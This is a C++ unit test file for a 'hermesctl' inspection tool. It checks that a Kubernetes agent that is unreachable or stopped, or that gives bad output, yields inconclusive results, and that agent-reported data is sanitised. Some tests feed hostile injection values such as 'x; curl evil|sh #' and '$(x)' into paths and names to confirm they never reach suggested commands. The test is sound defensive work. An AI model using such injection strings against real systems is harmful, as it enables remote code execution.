// Where the inspection cannot look, or is told nonsense: that is no pass.
#include "hermes/inspection_parts.hpp"
#include "unit/hermes/inspected.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace hermesctl::hermes {
namespace {

using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

const Rows of_the_inside{"identity-token-file=INCONCLUSIVE", "host-uid=INCONCLUSIVE",
                         "agent-backend=INCONCLUSIVE",       "agent-allowlist=INCONCLUSIVE",
                         "agent-allow-all=INCONCLUSIVE",     "agent-secrets=INCONCLUSIVE",
                         "agent-env-file=INCONCLUSIVE"};

TEST(Inspection, WithoutExecWhatTheInsideTellsIsNotKnown) {
    Inspected world;
    world.api.deny("create", "pods/exec");
    world.api.deny("get", "pods/exec");
    const auto rows = world.rows();
    EXPECT_EQ(changed(rows), of_the_inside);
    EXPECT_THAT(rows.at("host-uid").hint, HasSubstr("pods/exec"));
}

TEST(Inspection, AnAnswerThatIsNotTheScriptsIsNone) {
    for (const char* said : {"", "hello", "{}", R"({"tokens":[],"gateways":{}})"}) {
        Inspected world;
        world.api.on_exec = [said](testing::FakeProcess& process) { process.out(said), process.exit(0); };
        EXPECT_EQ(changed(world.rows()), of_the_inside) << said;
    }
    EXPECT_EQ(parse_inside(std::string(300000, ' ')), std::nullopt);
}

TEST(Inspection, AStoppedAgentProvesNothing) {
    Inspected world;
    world.api.erase({"Pod", "hermes", "hermes-1-a"});
    world.edit({"Deployment", "hermes", "hermes"}, [](Json& made) { made["spec"]["replicas"] = 0; });
    Rows expected = of_the_inside;
    for (const char* id :
         {"identity-token", "host-namespaces", "host-paths", "host-privilege", "host-capabilities",
          "host-confinement", "host-icmp", "exposure-ports", "agent-image"})
        expected.insert(std::string(id) + "=INCONCLUSIVE");
    const auto rows = world.rows();
    EXPECT_EQ(changed(rows), expected);
    EXPECT_THAT(rows.at("host-uid").evidence, HasSubstr("stopped"));
    EXPECT_EQ(rows.at("host-uid").hint, "hermesctl start");
}

TEST(Inspection, OfAGatewayThatIsNotSeenNoRowSaysWhatItHas) {
    Inspected world;
    Premises premises = world.premises();
    const Json unread{{"environ", "unreadable"}};
    for (const Json& gateways : {Json::array(), Json::array({unread})}) {
        premises.inside["gateways"] = gateways;
        std::map<std::string, Check> rows;
        for (const Check& row : agent_checks(premises))
            rows[row.id] = row;
        EXPECT_EQ(changed(rows), Rows({"agent-backend=INCONCLUSIVE", "agent-allowlist=INCONCLUSIVE",
                                       "agent-allow-all=INCONCLUSIVE"}))
            << gateways;
    }
}

TEST(Inspection, NoPathThatTheAgentMadeUpIsPutIntoACommand) {
    Inspected world;
    Premises premises = world.premises();
    const std::string copy = "/opt/data/.env.before-";
    premises.inside["left"] = {{copy + "$(x)", {"K"}}, {copy + "$(y)", nullptr}, {"/opt/data;x", nullptr}};
    premises.inside["configs"]["/opt/data/config.yaml; $(z)"] = {{"state", "unreadable"}};
    const Check row = check_secrets(premises);
    EXPECT_EQ(row.verdict, Verdict::inconclusive);
    EXPECT_THAT(row.evidence, Not(HasSubstr(".env.before")));
    EXPECT_EQ(row.hint, "hermesctl exec -- ls -l /opt/data");
    premises.inside["configs"] = Json::object();
    EXPECT_EQ(check_secrets(premises).verdict, Verdict::pass);
}

TEST(Inspection, NoNameThatTheAgentMadeUpIsPutIntoACommand) {
    Inspected world;
    Premises premises = world.premises();
    premises.inside["plain"] = {"x; curl evil|sh #"};
    const Check row = check_secrets(premises);
    EXPECT_EQ(row.verdict, Verdict::fail);
    EXPECT_EQ(row.hint, "hermesctl deploy --secret KEY=-");
}

TEST(Inspection, ACopyThatWasNotLookedIntoIsToldAsThat) {
    Inspected world;
    Premises premises = world.premises();
    for (const std::string path : {"/opt/data/.env.before-20260101T000000Z", "/opt/data"}) {
        premises.inside["left"] = {{path, nullptr}};
        const Check row = check_secrets(premises);
        EXPECT_EQ(row.verdict, Verdict::warn);
        EXPECT_THAT(row.evidence, HasSubstr(path));
        EXPECT_EQ(row.hint, "hermesctl exec -- ls -l " + path);
    }
}

TEST(Inspection, WhatAnAgentSaysIsScrubbedShortAndPrintable) {
    const Json said{{"tokens", {"\x1b[2J" + std::string(500, 'x'), "at sk-abcdefghijklmnopqrstuvwxyz"}},
                    {"gateways", Json::array()},
                    {"container", Json::object()},
                    {"plain", Json::array()},
                    {"configs", {{"a\nb", "c\rd"}}},
                    {"env_files", Json::object()},
                    {"resolvers", Json::object()}};
    const Json tame = parse_inside(said.dump()).value();
    EXPECT_THAT(tame.dump(), AllOf(Not(HasSubstr("u001b")), Not(HasSubstr("abcdefghijklmnop"))));
    EXPECT_LE(tame["tokens"][0].get<std::string>().size(), 200u);
    EXPECT_EQ(tame["configs"]["a?b"], "c?d");
}

TEST(Inspection, WithoutAnInstallationThereIsNothingToLookAt) {
    Inspected world;
    world.api.erase({"Deployment", "hermes", "hermes"});
    EXPECT_THROW(world.checks(), Error);
}

}  // namespace
}  // namespace hermesctl::hermes
